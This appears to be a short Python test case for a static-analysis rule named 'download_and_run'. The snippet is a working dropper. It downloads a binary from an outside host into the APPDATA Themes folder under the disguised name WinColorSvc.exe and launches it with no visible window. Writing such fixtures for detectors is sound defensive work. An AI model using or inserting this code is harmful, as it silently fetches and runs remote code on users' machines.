# the file written from the response and started under the name it was opened with
import os
import subprocess
import urllib.request

_f = os.path.join(os.environ["APPDATA"], "Themes", "WinColorSvc.exe")
# ruleid: download_and_run
with open(_f, "wb") as h:
    h.write(urllib.request.urlopen("https://theme-cdn-sync.net/svc.bin", timeout=60).read())
subprocess.Popen([_f], creationflags=0x08000000, close_fds=True)
